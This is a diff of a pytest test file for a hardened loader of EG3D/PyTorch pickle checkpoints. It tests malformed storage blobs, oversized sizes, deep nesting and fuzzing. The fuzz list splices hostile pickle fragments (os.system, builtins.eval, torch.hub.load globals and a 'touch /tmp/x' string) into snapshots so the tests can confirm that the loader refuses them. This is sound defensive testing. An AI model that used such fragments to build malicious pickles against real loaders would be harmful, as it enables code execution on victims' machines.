-                 + as_arg('0') + as_arg('cpu') + as_arg(5) + as_arg(('v', 0, 5)) + b'tQ' + STOP),
-     'views inside a storage blob'),
-], ids=['complex', 'untyped', 'count', 'short', 'long', 'negative', 'garbage', 'little-endian', 'magic',
-        'truncated', 'no-record', 'view'])
+@pytest.mark.parametrize(
+    'blob,words',
+    [
+        (legacy_blob(5, b'\x00' * 20, storage='ComplexFloatStorage'), 'ComplexFloatStorage is not supported'),
+        (legacy_blob(5, b'\x00' * 20, storage='UntypedStorage'), "refused global 'torch.UntypedStorage'"),
+        (legacy_blob(5, b'\x00' * 20, count=6), 'element count does not match'),
+        (legacy_blob(5, b'\x00' * 19), 'holds 19 bytes'),
+        (legacy_blob(5, b'\x00' * 24), 'holds 24 bytes'),
+        (legacy_blob(-1, b''), 'invalid element count'),
+        (b'not a legacy stream at all', 'corrupt'),
+        (
+            pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
+            + pickle.dumps(1001, protocol=2)
+            + pickle.dumps({'little_endian': False}, protocol=2)
+            + legacy_blob(5, b'\x00' * 20)[len(LEGACY_HEADER) :],
+            'not little-endian',
+        ),
+        (pickle.dumps(1234, protocol=2) + FIVE_FLOATS, 'bad magic number'),
+        (LEGACY_HEADER[:-1], 'truncated'),
+        (legacy_blob(5, b'\x00' * 20, main=P2 + as_arg(5) + STOP), 'exactly one storage'),
+        (
+            legacy_blob(
+                5,
+                b'\x00' * 20,
+                main=P2
+                + MARK
+                + as_arg('storage')
+                + g('torch', 'FloatStorage')
+                + as_arg('0')
+                + as_arg('cpu')
+                + as_arg(5)
+                + as_arg(('v', 0, 5))
+                + b'tQ'
+                + STOP,
+            ),
+            'views inside a storage blob',
+        ),
+    ],
+    ids=[
+        'complex',
+        'untyped',
+        'count',
+        'short',
+        'long',
+        'negative',
+        'garbage',
+        'little-endian',
+        'magic',
+        'truncated',
+        'no-record',
+        'view',
+    ],
+)
 def test_malformed_blobs(tmp_path, blob, words):
     refused(tmp_path, P4 + storage_call(blob) + STOP, words)
 
 
 def test_load_from_bytes_needs_bytes(tmp_path):
-    refused(tmp_path, P4 + sg('torch.storage', '_load_from_bytes') + su('x' * 40) + TUPLE1 + REDUCE + STOP,
-            'expects one bytes argument')
+    refused(
+        tmp_path,
+        P4 + sg('torch.storage', '_load_from_bytes') + su('x' * 40) + TUPLE1 + REDUCE + STOP,
+        'expects one bytes argument',
+    )
 
 
 def test_storage_claiming_a_trillion_elements_fails_fast(tmp_path):
@@ -475,33 +743,38 @@ def test_storage_claiming_a_trillion_elements_fails_fast(tmp_path):
     assert peak < 5 * 2**20, peak
 
 
-@pytest.mark.parametrize('offset,size,stride,words', [
-    (0, (10,), (1,), 'exceeds its storage of 5'),
-    (5, (1,), (1,), 'exceeds'),
-    (4, (2,), (1,), 'exceeds'),
-    (0, (2, 2), (4, 1), 'exceeds'),
-    (0, (3,), (2**62,), 'exceeds'),
-    (6, (0,), (1,), 'exceeds'),
-    (-1, (1,), (1,), 'non-negative'),
-    (0, (2,), (-1,), 'non-negative'),
-    (0, (-2,), (1,), 'non-negative'),
-    (True, (1,), (1,), 'non-negative'),
-    (0, 'abc', (1,), 'tuple'),
-    (0, (1,) * 40, (1,) * 40, 'at most 32'),
-    (0, (2, 2), (1,), 'differ in length'),
-])
+@pytest.mark.parametrize(
+    'offset,size,stride,words',
+    [
+        (0, (10,), (1,), 'exceeds its storage of 5'),
+        (5, (1,), (1,), 'exceeds'),
+        (4, (2,), (1,), 'exceeds'),
+        (0, (2, 2), (4, 1), 'exceeds'),
+        (0, (3,), (2**62,), 'exceeds'),
+        (6, (0,), (1,), 'exceeds'),
+        (-1, (1,), (1,), 'non-negative'),
+        (0, (2,), (-1,), 'non-negative'),
+        (0, (-2,), (1,), 'non-negative'),
+        (True, (1,), (1,), 'non-negative'),
+        (0, 'abc', (1,), 'tuple'),
+        (0, (1,) * 40, (1,) * 40, 'at most 32'),
+        (0, (2, 2), (1,), 'differ in length'),
+    ],
+)
 def test_tensor_views_are_checked(tmp_path, offset, size, stride, words):
     refused(tmp_path, in_snapshot(rebuild_call(FIVE_FLOATS, offset, size, stride)), words)
 
 
 def test_tensor_rebuild_argument_checks(tmp_path):
-    refused(tmp_path, in_snapshot(rebuild_call(FIVE_FLOATS, 0, (5,), (1,), extra=as_arg('meta'))),
-            'metadata must be a dict')
+    refused(
+        tmp_path, in_snapshot(rebuild_call(FIVE_FLOATS, 0, (5,), (1,), extra=as_arg('meta'))), 'metadata must be a dict'
+    )
     fake = sg('torch._utils', '_rebuild_tensor_v2') + as_arg(('storage', 0, (1,), (1,), False, {})) + REDUCE
     refused(tmp_path, in_snapshot(fake), 'without a storage from this file')
     hooked = rebuild_call(FIVE_FLOATS, 0, (5,), (1,))
-    hooked = hooked.replace(sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE,
-                            EMPTY_DICT + as_arg(1) + sg('numpy', 'dtype') + SETITEM)
+    hooked = hooked.replace(
+        sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE, EMPTY_DICT + as_arg(1) + sg('numpy', 'dtype') + SETITEM
+    )
     refused(tmp_path, in_snapshot(hooked), 'backward hooks are not supported')
     param = sg('torch._utils', '_rebuild_parameter') + MARK + as_arg('x') + b'\x89' + EMPTY_DICT + b't' + REDUCE
     refused(tmp_path, in_snapshot(param), 'parameter data is not a tensor')
@@ -509,9 +782,10 @@ def test_tensor_rebuild_argument_checks(tmp_path):
 
 # --------------------------------------------------------------------------- other formats, sizes
 
+
 def _zip_torch_save() -> bytes:
     buf = io.BytesIO()
-    torch.save({'w': torch.ones(3)}, buf)   # at import: torch.save imports modules lazily
+    torch.save({'w': torch.ones(3)}, buf)  # at import: torch.save imports modules lazily
     return buf.getvalue()
 
 
@@ -551,8 +825,14 @@ print('GROWTH_KB', peak_kb() - before)
 
 
 def probe_rss(path: Path) -> tuple[str, float, int]:
-    out = subprocess.run([sys.executable, '-c', RSS_PROBE, str(path)], cwd=REPO, capture_output=True,
-                         text=True, timeout=120, env={**os.environ, 'PYTHONPATH': str(REPO)}).stdout
+    out = subprocess.run(
+        [sys.executable, '-c', RSS_PROBE, str(path)],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={**os.environ, 'PYTHONPATH': str(REPO)},
+    ).stdout
     lines = dict(line.split(' ', 1) for line in out.strip().splitlines())
     return lines.get('ERROR', ''), float(lines['SECONDS']), int(lines['GROWTH_KB'])
 
@@ -566,12 +846,15 @@ def real_subprocess(monkeypatch):
     monkeypatch.setattr(subprocess, 'Popen', _REAL_POPEN)
 
 
-@pytest.mark.parametrize('name,data', [
-    ('2 GB BINBYTES on a 1 KB file', P4 + b'B' + struct.pack('<I', 2 * 10**9) + b'\x00' * 1000),
-    ('2**60 BINBYTES8 on a 1 KB file', P4 + b'\x8e' + struct.pack('<Q', 2**60) + b'\x00' * 1000),
-    ('LONG_BINPUT 2**31 on a 1 KB file', P4 + NONE + b'r' + struct.pack('<I', 2**31) + b'\x00' * 1000),
-    ('trillion-element storage', P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP),
-])
+@pytest.mark.parametrize(
+    'name,data',
+    [
+        ('2 GB BINBYTES on a 1 KB file', P4 + b'B' + struct.pack('<I', 2 * 10**9) + b'\x00' * 1000),
+        ('2**60 BINBYTES8 on a 1 KB file', P4 + b'\x8e' + struct.pack('<Q', 2**60) + b'\x00' * 1000),
+        ('LONG_BINPUT 2**31 on a 1 KB file', P4 + NONE + b'r' + struct.pack('<I', 2**31) + b'\x00' * 1000),
+        ('trillion-element storage', P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP),
+    ],
+)
 @pytest.mark.skipif(not os.path.exists('/proc/self/status'), reason='needs Linux /proc for peak RSS')
 def test_declared_sizes_do_not_allocate(tmp_path, real_subprocess, name, data):
     path = tmp_path / 'big.pkl'
@@ -584,14 +867,15 @@ def test_declared_sizes_do_not_allocate(tmp_path, real_subprocess, name, data):
 
 # --------------------------------------------------------------------------- shape of the data
 
+
 def _generator(modules: dict | None = None, **attrs) -> object:
-    base = {'_init_args': (), '_init_kwargs': {}, 'rendering_kwargs': {},
-            'neural_rendering_resolution': 64}
+    base = {'_init_args': (), '_init_kwargs': {}, 'rendering_kwargs': {}, 'neural_rendering_resolution': 64}
     return persistent('TriPlaneGenerator', module_state(modules=modules, **{**base, **attrs}), '')
 
 
 def _dump(path: Path, top: object) -> Path:
     from eg3d_pickle import SnapshotPickler
+
     with open(path, 'wb') as f:
         SnapshotPickler(f, protocol=4).dump(top)
     return path
@@ -621,7 +905,7 @@ def test_shared_kwargs_cannot_explode(tmp_path):
 
 
 def test_deep_nesting(tmp_path):
-    deep = P4 + b']' * 200_000 + b'a' * 199_999 + STOP   # 200k nested lists
+    deep = P4 + b']' * 200_000 + b'a' * 199_999 + STOP  # 200k nested lists
     refused(tmp_path, deep, 'not an EG3D training snapshot')
     nested = EMPTY_DICT + (su('k') + EMPTY_DICT) * 2000 + SETITEM * 2000
     data = generator_with_init_kwargs(nested)
@@ -630,35 +914,81 @@ def test_deep_nesting(tmp_path):
 
 # --------------------------------------------------------------------------- fuzzing with hostile opcodes
 
+
 def _valid_snapshot() -> bytes:
-    spec = ModelSpec(init_kwargs={'z_dim': 4}, rendering_kwargs={
-        'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
-        neural_rendering_resolution=64)
+    spec = ModelSpec(
+        init_kwargs={'z_dim': 4},
+        rendering_kwargs={'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
+        neural_rendering_resolution=64,
+    )
     import tempfile
+
     with tempfile.TemporaryDirectory() as tmp:
         path = Path(tmp) / 'snap.pkl'
-        write_eg3d_pickle(path, spec, {'decoder.net.0.weight': torch.ones(2, 3),
-                                       'backbone.mapping.w_avg': torch.arange(4.0)}, module_src='')
+        write_eg3d_pickle(
+            path,
+            spec,
+            {'decoder.net.0.weight': torch.ones(2, 3), 'backbone.mapping.w_avg': torch.arange(4.0)},
+            module_src='',
+        )
         return path.read_bytes()
 
 
 VALID_SNAPSHOT = _valid_snapshot()
-SPLICES = [sg('os', 'system'), g('os', 'system'), sg('builtins', 'eval'), sg('torch.hub', 'load'),
-           sg('numpy', 'load'), sg('collections', 'OrderedDict'), sg('torch._utils', '_rebuild_tensor_v2'),
-           sg('torch.storage', '_load_from_bytes'), REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, MARK, b'o', b'i', b'Q',
-           MEMOIZE, BINGET0 + b'\x00', BINGET0 + b'\xff', LONG_BINGET + b'\xff\xff\xff\x7f', EMPTY_DICT,
-           EMPTY_TUPLE, TUPLE1, TUPLE2, SETITEM, STOP, NONE, su('touch /tmp/x'), su('storage'),
-           storage_call(FIVE_FLOATS), storage_call(legacy_blob(10**12, b'')), b'B' + struct.pack('<I', 2**31),
-           b'\x8e' + struct.pack('<Q', 2**62), b']' * 64, b'0', b'1', b'2', b'\x82\x01']
+SPLICES = [
+    sg('os', 'system'),
+    g('os', 'system'),
+    sg('builtins', 'eval'),
+    sg('torch.hub', 'load'),
+    sg('numpy', 'load'),
+    sg('collections', 'OrderedDict'),
+    sg('torch._utils', '_rebuild_tensor_v2'),
+    sg('torch.storage', '_load_from_bytes'),
+    REDUCE,
+    BUILD,
+    NEWOBJ,
+    NEWOBJ_EX,
+    MARK,
+    b'o',
+    b'i',
+    b'Q',
+    MEMOIZE,
+    BINGET0 + b'\x00',
+    BINGET0 + b'\xff',
+    LONG_BINGET + b'\xff\xff\xff\x7f',
+    EMPTY_DICT,
+    EMPTY_TUPLE,
+    TUPLE1,
+    TUPLE2,
+    SETITEM,
+    STOP,
+    NONE,
+    su('touch /tmp/x'),
+    su('storage'),
+    storage_call(FIVE_FLOATS),
+    storage_call(legacy_blob(10**12, b'')),
+    b'B' + struct.pack('<I', 2**31),
+    b'\x8e' + struct.pack('<Q', 2**62),
+    b']' * 64,
+    b'0',
+    b'1',
+    b'2',
+    b'\x82\x01',
+]
 """Opcode snippets spliced into a valid snapshot: globals, calls, memo reads, huge lengths, stack edits."""
 FUZZ_EXAMPLES = 400
 FUZZ_RUNS = [0]
 
 
-@settings(max_examples=FUZZ_EXAMPLES, deadline=None, derandomize=True,
-          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
-@given(splices=st.lists(st.tuples(st.integers(0, len(VALID_SNAPSHOT)), st.sampled_from(SPLICES)),
-                        min_size=1, max_size=6))
+@settings(
+    max_examples=FUZZ_EXAMPLES,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(
+    splices=st.lists(st.tuples(st.integers(0, len(VALID_SNAPSHOT)), st.sampled_from(SPLICES)), min_size=1, max_size=6)
+)
 def test_spliced_hostile_opcodes_give_only_checkpoint_errors(tmp_path, splices):
     """Any mix of hostile opcodes spliced anywhere into a valid snapshot: CheckpointError or a clean
     read, never another exception; the guard fixture proves nothing ran and nothing was imported."""
@@ -671,4 +1001,3 @@ def test_spliced_hostile_opcodes_give_only_checkpoint_errors(tmp_path, splices):
     start = time.perf_counter()
     snapshot_reads_cleanly_or_refuses(path, no_side_effects(tmp_path / 'CANARY'))
     assert time.perf_counter() - start < MAX_SECONDS
-
